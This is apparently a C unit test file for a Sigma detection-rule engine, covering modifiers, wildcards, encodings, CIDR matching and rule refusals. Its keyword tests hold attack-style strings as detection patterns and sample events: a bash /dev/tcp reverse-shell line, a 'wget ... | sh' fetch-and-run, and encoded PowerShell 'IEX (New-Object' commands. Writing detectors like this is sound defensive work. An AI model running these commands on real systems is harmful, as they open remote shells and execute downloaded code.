/*
 * test_detect_modifiers.c — Sigma values and modifiers: every modifier of
 * the specification, wildcards and escaping, null and empty values,
 * keywords, chained modifiers, and the combinations the engine refuses.
 *
 * Each case loads one rule into a flat-schema engine (field names as
 * written) and matches JSON events against it.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check.h"
#include "detect/detect.h"

#include "detect_t.h"

#define MATCH(det, json)                                                              \
    do {                                                                              \
        struct t_diag dg_;                                                            \
        memset(&dg_, 0, sizeof(dg_));                                                 \
        int r_ = t_rule_matches(det, json, &dg_);                                     \
        CHECK_MSG(r_ == 1, "expected a match of %s with %s (rc %d: %s)", #det, json,  \
                  r_, t_first_error(&dg_) ? t_first_error(&dg_) : "no error");        \
    } while (0)

#define NOMATCH(det, json)                                                            \
    do {                                                                              \
        struct t_diag dg_;                                                            \
        memset(&dg_, 0, sizeof(dg_));                                                 \
        int r_ = t_rule_matches(det, json, &dg_);                                     \
        CHECK_MSG(r_ == 0, "expected no match of %s with %s (rc %d: %s)", #det, json, \
                  r_, t_first_error(&dg_) ? t_first_error(&dg_) : "no error");        \
    } while (0)

/* The rule is refused with an error of `kind` whose feature or message
 * contains `what`. */
#define REFUSED(det, kind_, what)                                                     \
    do {                                                                              \
        struct t_diag dg_;                                                            \
        memset(&dg_, 0, sizeof(dg_));                                                 \
        int r_ = t_rule_matches(det, "{}", &dg_);                                     \
        int e_ = t_error_index(&dg_);                                                 \
        CHECK_MSG(r_ == -EINVAL && e_ >= 0, "expected %s to be refused (rc %d)", #det, \
                  r_);                                                                \
        CHECK_MSG(dg_.d[e_].kind == (kind_), "refused as %s, not %s: %s",             \
                  detect_diag_kind_name(dg_.d[e_].kind), detect_diag_kind_name(kind_), \
                  dg_.d[e_].message);                                                 \
        CHECK_MSG(strstr(dg_.d[e_].feature, what) || strstr(dg_.d[e_].message, what), \
                  "the error does not say '%s': %s", what, dg_.d[e_].message);        \
        CHECK_MSG(dg_.d[e_].line > 0, "the error has no line: %s", dg_.d[e_].message); \
    } while (0)

static const char b64tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static void b64(const unsigned char *in, size_t n, char *out)
{
    size_t k = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)in[i] << 16 | (i + 1 < n ? (uint32_t)in[i + 1] << 8 : 0) |
                     (i + 2 < n ? in[i + 2] : 0);
        out[k++] = b64tab[v >> 18];
        out[k++] = b64tab[(v >> 12) & 63];
        out[k++] = i + 1 < n ? b64tab[(v >> 6) & 63] : '=';
        out[k++] = i + 2 < n ? b64tab[v & 63] : '=';
    }
    out[k] = '\0';
}

/* ------------------------------------------------------------ cases */

static void equality_is_case_insensitive(void)
{
    MATCH("    sel:\n        f: Foo\n    condition: sel", "{\"f\":\"fOO\"}");
    NOMATCH("    sel:\n        f: Foo\n    condition: sel", "{\"f\":\"fOOx\"}");
    NOMATCH("    sel:\n        f: Foo\n    condition: sel", "{\"g\":\"foo\"}");
    /* numbers and booleans compare as their text */
    MATCH("    sel:\n        port: 443\n    condition: sel", "{\"port\":443}");
    MATCH("    sel:\n        port: 443\n    condition: sel", "{\"port\":\"443\"}");
    MATCH("    sel:\n        b: true\n    condition: sel", "{\"b\":true}");
}

static void wildcards(void)
{
    MATCH("    sel:\n        f: 'a*c'\n    condition: sel", "{\"f\":\"abbbc\"}");
    MATCH("    sel:\n        f: 'a*c'\n    condition: sel", "{\"f\":\"ac\"}");
    NOMATCH("    sel:\n        f: 'a*c'\n    condition: sel", "{\"f\":\"abbbcd\"}");
    MATCH("    sel:\n        f: 'a?c'\n    condition: sel", "{\"f\":\"aXc\"}");
    NOMATCH("    sel:\n        f: 'a?c'\n    condition: sel", "{\"f\":\"ac\"}");
    /* ? is one character, also a multi-byte one */
    MATCH("    sel:\n        f: 'a?c'\n    condition: sel", "{\"f\":\"a\xc3\xa9" "c\"}");
    MATCH("    sel:\n        f: '*/bin/*sh'\n    condition: sel", "{\"f\":\"/usr/bin/bash\"}");
    MATCH("    sel:\n        f: 'x*y*z'\n    condition: sel", "{\"f\":\"x1y2y3z\"}");
    NOMATCH("    sel:\n        f: 'x*y*z'\n    condition: sel", "{\"f\":\"x1z2y\"}");
    MATCH("    sel:\n        f: '*'\n    condition: sel", "{\"f\":\"\"}");
    NOMATCH("    sel:\n        f: '*'\n    condition: sel", "{}");
}

static void escaping(void)
{
    /* \* and \? are plain characters */
    MATCH("    sel:\n        f: 'a\\*c'\n    condition: sel", "{\"f\":\"a*c\"}");
    NOMATCH("    sel:\n        f: 'a\\*c'\n    condition: sel", "{\"f\":\"abc\"}");
    MATCH("    sel:\n        f: 'a\\?c'\n    condition: sel", "{\"f\":\"a?c\"}");
    NOMATCH("    sel:\n        f: 'a\\?c'\n    condition: sel", "{\"f\":\"abc\"}");
    /* a backslash before anything else is itself */
    MATCH("    sel:\n        f: 'C:\\Windows\\cmd.exe'\n    condition: sel",
          "{\"f\":\"c:\\\\windows\\\\CMD.exe\"}");
    /* \\ is one backslash; \\* a backslash then a wildcard */
    MATCH("    sel:\n        f: 'a\\\\b'\n    condition: sel", "{\"f\":\"a\\\\b\"}");
    MATCH("    sel:\n        f: 'a\\\\*'\n    condition: sel", "{\"f\":\"a\\\\anything\"}");
    NOMATCH("    sel:\n        f: 'a\\\\*'\n    condition: sel", "{\"f\":\"a*\"}");
    /* \\\* a backslash then a plain star */
    MATCH("    sel:\n        f: 'a\\\\\\*'\n    condition: sel", "{\"f\":\"a\\\\*\"}");
    NOMATCH("    sel:\n        f: 'a\\\\\\*'\n    condition: sel", "{\"f\":\"a\\\\x\"}");
}

static void contains_startswith_endswith(void)
{
    MATCH("    sel:\n        f|contains: 'bin/ba'\n    condition: sel", "{\"f\":\"/usr/BIN/bash\"}");
    NOMATCH("    sel:\n        f|contains: 'bin/ba'\n    condition: sel", "{\"f\":\"/usr/sbin/sh\"}");
    MATCH("    sel:\n        f|startswith: '/usr/'\n    condition: sel", "{\"f\":\"/usr/bin/id\"}");
    NOMATCH("    sel:\n        f|startswith: '/usr/'\n    condition: sel", "{\"f\":\"/opt/usr/\"}");
    MATCH("    sel:\n        f|endswith: '/id'\n    condition: sel", "{\"f\":\"/usr/bin/ID\"}");
    NOMATCH("    sel:\n        f|endswith: '/id'\n    condition: sel", "{\"f\":\"/usr/bin/idx\"}");
    /* wildcards inside keep working */
    MATCH("    sel:\n        f|contains: 'a*b'\n    condition: sel", "{\"f\":\"xxa123byy\"}");
    MATCH("    sel:\n        f|endswith: '.?s'\n    condition: sel", "{\"f\":\"x.js\"}");
}

static void lists_and_all(void)
{
    MATCH("    sel:\n        f:\n            - a\n            - b\n    condition: sel", "{\"f\":\"B\"}");
    NOMATCH("    sel:\n        f:\n            - a\n            - b\n    condition: sel", "{\"f\":\"c\"}");
    MATCH("    sel:\n        f|contains|all:\n            - ' -a'\n            - ' -b'\n    condition: sel",
          "{\"f\":\"cmd -b -a\"}");
    NOMATCH("    sel:\n        f|contains|all:\n            - ' -a'\n            - ' -b'\n    condition: sel",
            "{\"f\":\"cmd -a\"}");
    /* a list of maps is an OR of ANDs */
    const char *det = "    sel:\n        - f: a\n          g: b\n        - h: c\n    condition: sel";
    MATCH(det, "{\"f\":\"a\",\"g\":\"b\"}");
    MATCH(det, "{\"h\":\"c\"}");
    NOMATCH(det, "{\"f\":\"a\",\"g\":\"x\"}");
}

/* Lists of four or more exact, prefix or suffix values are tried by the
 * byte a match shares with the value (struct fcond's dispatch): the same
 * results as trying each value, case folding, `cased`, wildcards that make
 * a value a prefix, an empty value, and the evidence naming the first
 * value of the list that holds. */
static void long_literal_lists(void)
{
    const char *suf = "    sel:\n        f|endswith:\n            - /sbin/id\n            - /whoami\n"
                      "            - /id\n            - D\n            - /uname\n    condition: sel";
    MATCH(suf, "{\"f\":\"/usr/bin/WHOAMI\"}");
    MATCH(suf, "{\"f\":\"/usr/bin/id\"}");
    MATCH(suf, "{\"f\":\"bad\"}");
    NOMATCH(suf, "{\"f\":\"/usr/bin/ids\"}");
    NOMATCH(suf, "{\"f\":\"\"}");
    /* bytes whose low 6 bits collide with a listed value's ('$' and 'd') */
    NOMATCH(suf, "{\"f\":\"/usr/bin/$\"}");
    const char *cased = "    sel:\n        f|cased:\n            - Alpha\n            - beta\n"
                        "            - Gamma*\n            - delta\n    condition: sel";
    MATCH(cased, "{\"f\":\"Gammas\"}");
    MATCH(cased, "{\"f\":\"beta\"}");
    NOMATCH(cased, "{\"f\":\"gammas\"}");
    NOMATCH(cased, "{\"f\":\"ALPHA\"}");
    const char *pre = "    sel:\n        f|startswith:\n            - /tmp/\n            - /dev/shm/\n"
                      "            - /var/tmp/\n            - /run/user/\n    condition: sel";
    MATCH(pre, "{\"f\":\"/VAR/TMP/x\"}");
    NOMATCH(pre, "{\"f\":\"/var/tm\"}");
    NOMATCH(pre, "{\"f\":\"x/tmp/\"}");

    /* evidence: the first value in list order that holds */
    struct t_diag dg;
    struct t_hits h;
    memset(&dg, 0, sizeof(dg));
    memset(&h, 0, sizeof(h));
    char yaml[1024];
    snprintf(yaml, sizeof(yaml), "title: T\nlogsource:\n    product: test\ndetection:\n%s\n", suf);
    struct detect_engine *eng = t_engine(DETECT_SCHEMA_FLAT, yaml, &dg, NULL);
    CHECK(eng != NULL);
    if (!eng)
        return;
    CHECK(t_match(eng, NULL, "{\"f\":\"/usr/sbin/id\"}", &h) == 1);
    CHECK(h.n == 1 && h.nev[0] == 1);
    CHECK_MSG(strcmp(h.ev_pattern[0][0], "/sbin/id") == 0, "evidence pattern %s",
              h.ev_pattern[0][0]);
    detect_engine_free(eng);
}

static void null_and_empty(void)
{
    MATCH("    sel:\n        f: null\n    condition: sel", "{}");
    MATCH("    sel:\n        f: null\n    condition: sel", "{\"f\":null}");
    MATCH("    sel:\n        f: null\n    condition: sel", "{\"f\":\"\"}");
    NOMATCH("    sel:\n        f: null\n    condition: sel", "{\"f\":\"x\"}");
    MATCH("    sel:\n        f: ''\n    condition: sel", "{\"f\":\"\"}");
    NOMATCH("    sel:\n        f: ''\n    condition: sel", "{}");
    NOMATCH("    sel:\n        f: ''\n    condition: sel", "{\"f\":\"x\"}");
    /* "not null" is written as a negated selection */
    MATCH("    sel:\n        a: 1\n    filter:\n        f: null\n    condition: sel and not filter",
          "{\"a\":1,\"f\":\"v\"}");
    NOMATCH("    sel:\n        a: 1\n    filter:\n        f: null\n    condition: sel and not filter",
            "{\"a\":1}");
}

static void keywords(void)
{
    const char *det = "    keywords:\n        - 'history -c'\n        - 'bash -i >& /dev/tcp/'\n"
                      "    condition: keywords";
    MATCH(det, "{\"a\":\"x\",\"b\":\"sh -c 'history -c; ls'\"}");
    MATCH(det, "{\"msg\":\"BASH -I >& /dev/tcp/1.2.3.4/80\"}");
    NOMATCH(det, "{\"msg\":\"history\"}");
    /* |all: every keyword somewhere in the event, not necessarily one field */
    const char *all = "    keywords:\n        '|all':\n            - pkexec\n            - XAUTHORITY\n"
                      "    condition: keywords";
    MATCH(all, "{\"a\":\"pkexec\",\"b\":\"bad XAUTHORITY value\"}");
    NOMATCH(all, "{\"a\":\"pkexec\"}");
    /* wildcards inside keywords */
    MATCH("    keywords:\n        - 'wget * | sh'\n    condition: keywords",
          "{\"c\":\"wget http://x/y -O - | sh\"}");
    /* nested objects are searched too */
    MATCH(det, "{\"outer\":{\"inner\":\"history -c\"}}");
}

static void regular_expressions(void)
{
    MATCH("    sel:\n        f|re: '^ab+c$'\n    condition: sel", "{\"f\":\"abbbc\"}");
    NOMATCH("    sel:\n        f|re: '^ab+c$'\n    condition: sel", "{\"f\":\"ABBBC\"}");
    MATCH("    sel:\n        f|re|i: '^ab+c$'\n    condition: sel", "{\"f\":\"ABBBC\"}");
    /* m: ^ and $ at line ends */
    MATCH("    sel:\n        f|re|m: '^second$'\n    condition: sel", "{\"f\":\"first\\nsecond\"}");
    NOMATCH("    sel:\n        f|re: '^second$'\n    condition: sel", "{\"f\":\"first\\nsecond\"}");
    /* s: dot matches newlines */
    MATCH("    sel:\n        f|re|s: 'a.b'\n    condition: sel", "{\"f\":\"a\\nb\"}");
    NOMATCH("    sel:\n        f|re: 'a.b'\n    condition: sel", "{\"f\":\"a\\nb\"}");
    /* alternation and groups: literals used by the index must not lose matches */
    MATCH("    sel:\n        f|re: '-(W|R)\\s?[0-9a-f]{2}'\n    condition: sel", "{\"f\":\"pnscan -R 6f\"}");
    NOMATCH("    sel:\n        f|re: '-(W|R)\\s?[0-9a-f]{2}'\n    condition: sel", "{\"f\":\"pnscan -X 6f\"}");
    MATCH("    sel:\n        f|re: 'ab?cd'\n    condition: sel", "{\"f\":\"xacd\"}");
    MATCH("    sel:\n        f|re: '(foo|bar)baz'\n    condition: sel", "{\"f\":\"xbarbaz\"}");
    MATCH("    sel:\n        f|re: 'x|yz'\n    condition: sel", "{\"f\":\"yz\"}");
    MATCH("    sel:\n        f|re: '\\.exe$'\n    condition: sel", "{\"f\":\"a.EXE.exe\"}");
    REFUSED("    sel:\n        f|re: '(unclosed'\n    condition: sel", DETECT_DIAG_REGEX,
            "regular expression");
}

static void base64_modifiers(void)
{
    char buf[256], json[512];
    MATCH("    sel:\n        f|base64: hello\n    condition: sel", "{\"f\":\"aGVsbG8=\"}");
    /* base64 is compared byte for byte */
    NOMATCH("    sel:\n        f|base64: hello\n    condition: sel", "{\"f\":\"AGVSBG8=\"}");
    MATCH("    sel:\n        f|base64|contains: hello\n    condition: sel", "{\"f\":\"x aGVsbG8= y\"}");
    /* base64offset: the value at any of the three alignments */
    const char *det = "    sel:\n        f|base64offset|contains: 'ping -c'\n    condition: sel";
    static const char *const texts[] = {"ping -c 1 x", "xping -c 1", "xxping -c 9", "abcping -c"};
    for (size_t i = 0; i < 4; i++) {
        b64((const unsigned char *)texts[i], strlen(texts[i]), buf);
        snprintf(json, sizeof(json), "{\"f\":\"powershell -enc %s\"}", buf);
        MATCH(det, json);
    }
    b64((const unsigned char *)"pong -c 1", 9, buf);
    snprintf(json, sizeof(json), "{\"f\":\"%s\"}", buf);
    NOMATCH(det, json);
    REFUSED("    sel:\n        f|contains|base64offset: 'x'\n    condition: sel", DETECT_DIAG_VALUE,
            "base64offset");
    REFUSED("    sel:\n        f|base64: 'a*b'\n    condition: sel", DETECT_DIAG_VALUE, "base64");
}

static void utf16_modifiers(void)
{
    char buf[256], json[512];
    /* wide + base64offset + contains: PowerShell -EncodedCommand style */
    unsigned char wide[64];
    const char *cmd = "xxIEX (New-Object";
    size_t k = 0;
    for (const char *p = cmd; *p; p++) {
        wide[k++] = (unsigned char)*p;
        wide[k++] = 0;
    }
    const char *det = "    sel:\n        f|wide|base64offset|contains: 'IEX (New-Object'\n    condition: sel";
    for (size_t shift = 0; shift < 3; shift++) {
        b64(wide + shift * 2, k - shift * 2, buf);
        snprintf(json, sizeof(json), "{\"f\":\"-enc %s\"}", buf);
        MATCH(det, json);
    }
    /* utf16le == wide; utf16be; utf16 has a byte order mark */
    MATCH("    sel:\n        f|utf16le|base64: 'ab'\n    condition: sel", "{\"f\":\"YQBiAA==\"}");
    MATCH("    sel:\n        f|wide|base64: 'ab'\n    condition: sel", "{\"f\":\"YQBiAA==\"}");
    MATCH("    sel:\n        f|utf16be|base64: 'ab'\n    condition: sel", "{\"f\":\"AGEAYg==\"}");
    MATCH("    sel:\n        f|utf16|base64: 'a'\n    condition: sel", "{\"f\":\"//5hAA==\"}");
}

static void windash(void)
{
    const char *det = "    sel:\n        f|contains|windash: ' -enc '\n    condition: sel";
    MATCH(det, "{\"f\":\"powershell -enc abc\"}");
    MATCH(det, "{\"f\":\"powershell /enc abc\"}");
    MATCH(det, "{\"f\":\"powershell \xe2\x80\x93" "enc abc\"}");   /* en dash */
    MATCH(det, "{\"f\":\"powershell \xe2\x80\x94" "enc abc\"}");   /* em dash */
    MATCH(det, "{\"f\":\"powershell \xe2\x80\x95" "enc abc\"}");   /* horizontal bar */
    NOMATCH(det, "{\"f\":\"powershell xenc abc\"}");
    /* only a dash at the start of a word is a flag dash */
    MATCH("    sel:\n        f|windash: 'a-b'\n    condition: sel", "{\"f\":\"a-b\"}");
    NOMATCH("    sel:\n        f|windash: 'a-b'\n    condition: sel", "{\"f\":\"a/b\"}");
    /* windash before an encoding expands to literal variants */
    MATCH("    sel:\n        f|windash|base64: '-x'\n    condition: sel", "{\"f\":\"L3g=\"}");
}

static void cidr(void)
{
    const char *v4 = "    sel:\n        ip|cidr:\n            - 10.0.0.0/8\n            - 192.168.1.0/24\n"
                     "    condition: sel";
    MATCH(v4, "{\"ip\":\"10.200.3.4\"}");
    MATCH(v4, "{\"ip\":\"192.168.1.77\"}");
    NOMATCH(v4, "{\"ip\":\"192.168.2.1\"}");
    NOMATCH(v4, "{\"ip\":\"11.0.0.1\"}");
    NOMATCH(v4, "{\"ip\":\"not an address\"}");
    MATCH(v4, "{\"ip\":\"::ffff:10.1.1.1\"}");   /* IPv4-mapped */
    const char *v6 = "    sel:\n        ip|cidr: 'fe80::/10'\n    condition: sel";
    MATCH(v6, "{\"ip\":\"fe80::1\"}");
    MATCH(v6, "{\"ip\":\"FEBF::1%eth0\"}");
    NOMATCH(v6, "{\"ip\":\"fec0::1\"}");
    NOMATCH(v6, "{\"ip\":\"10.0.0.1\"}");
    MATCH("    sel:\n        ip|cidr: '0.0.0.0/0'\n    condition: sel", "{\"ip\":\"8.8.8.8\"}");
    MATCH("    sel:\n        ip|cidr: '2001:db8::/32'\n    condition: sel", "{\"ip\":\"2001:db8:1::5\"}");
    REFUSED("    sel:\n        ip|cidr: '10.0.0.0/33'\n    condition: sel", DETECT_DIAG_VALUE, "cidr");
    REFUSED("    sel:\n        ip|cidr: 'nonsense'\n    condition: sel", DETECT_DIAG_VALUE, "cidr");
}

static void exists(void)
{
    MATCH("    sel:\n        f|exists: true\n    condition: sel", "{\"f\":\"\"}");
    NOMATCH("    sel:\n        f|exists: true\n    condition: sel", "{\"g\":\"x\"}");
    MATCH("    sel:\n        f|exists: false\n    condition: sel", "{\"g\":\"x\"}");
    NOMATCH("    sel:\n        f|exists: false\n    condition: sel", "{\"f\":\"x\"}");
    REFUSED("    sel:\n        f|exists: maybe\n    condition: sel", DETECT_DIAG_VALUE, "exists");
}

static void cased(void)
{
    MATCH("    sel:\n        f|cased: Foo\n    condition: sel", "{\"f\":\"Foo\"}");
    NOMATCH("    sel:\n        f|cased: Foo\n    condition: sel", "{\"f\":\"foo\"}");
    MATCH("    sel:\n        f|contains|cased: 'EnC'\n    condition: sel", "{\"f\":\"-EnCoded\"}");
    NOMATCH("    sel:\n        f|contains|cased: 'EnC'\n    condition: sel", "{\"f\":\"-encoded\"}");
}

static void neq(void)
{
    MATCH("    sel:\n        f|neq: foo\n    condition: sel", "{\"f\":\"bar\"}");
    NOMATCH("    sel:\n        f|neq: foo\n    condition: sel", "{\"f\":\"FOO\"}");
    MATCH("    sel:\n        f|neq: foo\n    condition: sel", "{\"g\":\"x\"}");
    const char *list = "    sel:\n        f|neq:\n            - a\n            - b\n    condition: sel";
    MATCH(list, "{\"f\":\"c\"}");
    NOMATCH(list, "{\"f\":\"a\"}");
    NOMATCH(list, "{\"f\":\"b\"}");
    MATCH("    sel:\n        n|neq: 5\n    condition: sel", "{\"n\":6}");
}

static void numeric_comparisons(void)
{
    MATCH("    sel:\n        n|lt: 10\n    condition: sel", "{\"n\":9}");
    NOMATCH("    sel:\n        n|lt: 10\n    condition: sel", "{\"n\":10}");
    MATCH("    sel:\n        n|lte: 10\n    condition: sel", "{\"n\":\"10\"}");
    MATCH("    sel:\n        n|gt: 1.5\n    condition: sel", "{\"n\":1.75}");
    NOMATCH("    sel:\n        n|gt: 1.5\n    condition: sel", "{\"n\":1.5}");
    MATCH("    sel:\n        n|gte: 1024\n    condition: sel", "{\"n\":\"0x400\"}");
    MATCH("    sel:\n        n|lt: 0\n    condition: sel", "{\"n\":-3}");
    NOMATCH("    sel:\n        n|gt: 1\n    condition: sel", "{\"n\":\"many\"}");
    NOMATCH("    sel:\n        n|gt: 1\n    condition: sel", "{}");
    REFUSED("    sel:\n        n|gt: ten\n    condition: sel", DETECT_DIAG_VALUE, "number");
}

static void time_modifiers(void)
{
    const char *ev = "{\"t\":\"2026-11-26T10:12:30.5Z\"}";
    MATCH("    sel:\n        t|minute: 12\n    condition: sel", ev);
    MATCH("    sel:\n        t|hour: 10\n    condition: sel", ev);
    MATCH("    sel:\n        t|day: 26\n    condition: sel", ev);
    MATCH("    sel:\n        t|month: 11\n    condition: sel", ev);
    MATCH("    sel:\n        t|year: 2026\n    condition: sel", ev);
    MATCH("    sel:\n        t|week: 48\n    condition: sel", ev);
    MATCH("    sel:\n        t|hour|lt: 12\n    condition: sel", ev);
    NOMATCH("    sel:\n        t|hour|gte: 22\n    condition: sel", ev);
    /* ISO weeks at year boundaries */
    MATCH("    sel:\n        t|week: 53\n    condition: sel", "{\"t\":\"2021-01-01 00:00:00\"}");
    MATCH("    sel:\n        t|week: 1\n    condition: sel", "{\"t\":\"2024-12-30T00:00:00Z\"}");
}

static void fieldref(void)
{
    MATCH("    sel:\n        a|fieldref: b\n    condition: sel", "{\"a\":\"X\",\"b\":\"x\"}");
    NOMATCH("    sel:\n        a|fieldref: b\n    condition: sel", "{\"a\":\"X\",\"b\":\"y\"}");
    NOMATCH("    sel:\n        a|fieldref: b\n    condition: sel", "{\"a\":\"X\"}");
    MATCH("    sel:\n        a|fieldref|startswith: b\n    condition: sel", "{\"a\":\"xyz\",\"b\":\"xy\"}");
    MATCH("    sel:\n        a|fieldref|endswith: b\n    condition: sel", "{\"a\":\"xyz\",\"b\":\"yz\"}");
    MATCH("    sel:\n        a|fieldref|contains: b\n    condition: sel", "{\"a\":\"xyz\",\"b\":\"Y\"}");
    NOMATCH("    sel:\n        a|fieldref|cased: b\n    condition: sel", "{\"a\":\"X\",\"b\":\"x\"}");
    MATCH("    sel:\n        a|fieldref|neq: b\n    condition: sel", "{\"a\":\"x\",\"b\":\"y\"}");
    NOMATCH("    sel:\n        a|fieldref|neq: b\n    condition: sel", "{\"a\":\"x\",\"b\":\"x\"}");
}

static void expand_placeholders(void)
{
    static const char *const admins[] = {"root", "adm*"};
    struct detect_placeholder ph[] = {{"Admins", admins, 2}};
    struct detect_config cfg;
    struct t_diag dg;
    struct t_hits h;
    detect_config_default(&cfg);
    cfg.schema = DETECT_SCHEMA_FLAT;
    cfg.placeholders = ph;
    cfg.n_placeholders = 1;
    memset(&dg, 0, sizeof(dg));
    struct detect_engine *eng = t_engine_cfg(
        &cfg,
        "title: E\nlogsource: {product: x}\ndetection:\n    sel:\n        u|expand: '%Admins%'\n"
        "    sel2:\n        v|expand: 'x\\%y%Admins%'\n    condition: sel or sel2\n",
        &dg, NULL);
    CHECK(eng);
    CHECK_INT(detect_engine_rule_count(eng), ==, 1);
    memset(&h, 0, sizeof(h));
    CHECK_INT(t_match(eng, NULL, "{\"u\":\"root\"}", &h), ==, 1);
    CHECK_INT(t_match(eng, NULL, "{\"u\":\"admin1\"}", &h), ==, 1);
    CHECK_INT(t_match(eng, NULL, "{\"u\":\"bob\"}", &h), ==, 0);
    CHECK_INT(t_match(eng, NULL, "{\"v\":\"x%yroot\"}", &h), ==, 1);
    detect_engine_free(eng);
    /* without the placeholder configured: refused, named */
    REFUSED("    sel:\n        u|expand: '%Admins%'\n    condition: sel", DETECT_DIAG_PLACEHOLDER,
            "%Admins%");
    /* without expand, %x% is plain text */
    MATCH("    sel:\n        u: '%Admins%'\n    condition: sel", "{\"u\":\"%admins%\"}");
}

static void refusals(void)
{
    REFUSED("    sel:\n        f|contians: x\n    condition: sel", DETECT_DIAG_MODIFIER, "contians");
    REFUSED("    sel:\n        f|re|contains: x\n    condition: sel", DETECT_DIAG_MODIFIER, "re");
    REFUSED("    sel:\n        f|i: x\n    condition: sel", DETECT_DIAG_MODIFIER, "'i'");
    REFUSED("    sel:\n        f|contains|contains: x\n    condition: sel", DETECT_DIAG_MODIFIER,
            "twice");
    REFUSED("    sel:\n        f|cidr|exists: true\n    condition: sel", DETECT_DIAG_MODIFIER,
            "exclude");
    REFUSED("    sel:\n        f|lt|gt: 3\n    condition: sel", DETECT_DIAG_MODIFIER, "comparisons");
    REFUSED("    sel:\n        f|contains: null\n    condition: sel", DETECT_DIAG_VALUE, "null");
    REFUSED("    sel:\n        f: []\n    condition: sel", DETECT_DIAG_VALUE, "empty list");
    REFUSED("    sel:\n        f:\n            - [a, b]\n    condition: sel", DETECT_DIAG_STRUCTURE,
            "list");
    REFUSED("    sel:\n        f:\n            k: v\n    condition: sel", DETECT_DIAG_STRUCTURE,
            "mapping");
    REFUSED("    sel:\n        f|: x\n    condition: sel", DETECT_DIAG_MODIFIER, "empty modifier");
    REFUSED("    keywords:\n        '|cidr': 10.0.0.0/8\n    condition: keywords", DETECT_DIAG_MODIFIER,
            "keywords");
}

static void chained_modifiers(void)
{
    /* contains then windash, endswith then windash, all */
    MATCH("    sel:\n        f|endswith|windash: ' -x'\n    condition: sel", "{\"f\":\"cmd /x\"}");
    MATCH("    sel:\n        f|contains|windash|all:\n            - ' -a '\n            - ' -b'\n"
          "    condition: sel", "{\"f\":\"cmd /b /a \"}");
    /* base64offset then contains then all */
    char buf[128], json[256];
    b64((const unsigned char *)"xxcurl http", 11, buf);
    snprintf(json, sizeof(json), "{\"f\":\"%s\"}", buf);
    MATCH("    sel:\n        f|base64offset|contains|all:\n            - curl\n            - http\n"
          "    condition: sel", json);
}

int main(int argc, char **argv)
{
    static const struct check_case cases[] = {
        {"equality_is_case_insensitive", equality_is_case_insensitive},
        {"wildcards", wildcards},
        {"escaping", escaping},
        {"contains_startswith_endswith", contains_startswith_endswith},
        {"lists_and_all", lists_and_all},
        {"long_literal_lists", long_literal_lists},
        {"null_and_empty", null_and_empty},
        {"keywords", keywords},
        {"regular_expressions", regular_expressions},
        {"base64_modifiers", base64_modifiers},
        {"utf16_modifiers", utf16_modifiers},
        {"windash", windash},
        {"cidr", cidr},
        {"exists", exists},
        {"cased", cased},
        {"neq", neq},
        {"numeric_comparisons", numeric_comparisons},
        {"time_modifiers", time_modifiers},
        {"fieldref", fieldref},
        {"expand_placeholders", expand_placeholders},
        {"chained_modifiers", chained_modifiers},
        {"refusals", refusals},
        {NULL, NULL},
    };
    return check_main("detect_modifiers", cases, argc, argv);
}
